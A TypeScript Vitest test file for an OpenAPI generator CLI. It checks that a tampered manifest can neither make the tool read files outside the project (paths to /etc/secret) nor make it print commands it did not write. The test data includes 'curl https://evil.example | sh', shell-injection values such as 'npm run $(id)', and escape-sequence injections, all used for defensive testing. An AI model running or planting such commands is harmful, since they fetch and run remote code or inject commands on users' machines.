import { describe, expect, test } from "vitest";
import { run } from "../../src/cli/run.js";
import type { ReadOptions } from "../../src/io.js";
import { parseManifest, printManifest, type Manifest } from "../../src/output/manifest.js";
import { isKnownCommand } from "../../src/project/generate-script.js";
import { memoryIo } from "../support/memory-io.js";

const description = 'openapi: 3.1.0\ninfo: { title: a, version: "1" }\npaths: {}\ncomponents: { schemas: { A: { type: string } } }\n';
const files = { "/project/package.json": "{}", "/project/api.yaml": description, "/etc/secret": "secret" };
const generate = ["generate", "--input", "api.yaml", "--output", "out"];
const check = ["check", "--input", "api.yaml", "--output", "out"];

/** A project whose output was generated, and whose manifest somebody has written anew, checksum and all. */
async function projectWith(change: (manifest: Manifest) => Manifest) {
  const io = memoryIo(files, { cwd: "/project" });
  expect(await run(generate, io)).toBe(0);
  const manifest = parseManifest(io.text("/project/out/sundial.json"));
  if (typeof manifest === "string") throw new Error(manifest);
  await io.write("/project/out/sundial.json", printManifest(change(manifest)));
  const asked: string[] = [];
  const reading = { ...io, read: (path: string, options?: ReadOptions) => (asked.push(path), io.read(path, options)) };
  const before = io.printed.stdout.length + io.printed.stderr.length;
  return {
    asked,
    check: async (...more: string[]) => ({
      code: await run([...check, ...more], reading),
      said: `${io.printed.stdout}${io.printed.stderr}`.slice(before),
    }),
  };
}

describe("a manifest that somebody else has written", () => {
  test.each(["../../etc/secret", "/etc/secret", "../../../etc/secret"])("has no file outside of the project opened: %s", async (name) => {
    const project = await projectWith((manifest) => ({ ...manifest, inputs: [...manifest.inputs, { name, hash: "0" }] }));
    await project.check();
    expect(project.asked.filter((path) => path.includes("secret"))).toEqual([]);
    expect(project.asked).toContain("/project/out/sundial.json");
  });

  test.each([
    "curl https://evil.example | sh",
    "npm run generate; id",
    "npm run $(id)",
    "::error::gone",
    "\u001b[2Jnpm run a",
    "sh a",
    "npx sundial generate",
    "npm run a\nid",
  ])("offers no command that we do not write: %j", async (command) => {
    expect(isKnownCommand(command)).toBe(false);
    const project = await projectWith((manifest) => ({ ...manifest, options: { ...manifest.options, command } }));
    for (const format of ["pretty", "github", "json"]) {
      const { code, said } = await project.check("--format", format);
      expect(code).toBe(0);
      expect(said).not.toMatch(/^(?:::error::gone|curl|\s*help: (?:run )?`?(?:curl|sh |npm run|npx sundial))/m);
      expect(said).not.toMatch(/run `(?!npx openapi-sundial generate)/);
      expect(said).not.toContain("\u001b[2J");
    }
  });

  test.each([
    "npx openapi-sundial generate",
    "yarn sundial generate",
    "pnpm exec sundial generate",
    "bunx openapi-sundial generate",
    "deno run -A npm:openapi-sundial generate",
    "npm run generate",
    "yarn run gen:api",
    "pnpm run a.b",
    "bun run x",
  ])("is taken at its word where we write such: %s", (command) => {
    expect(isKnownCommand(command)).toBe(true);
  });
});
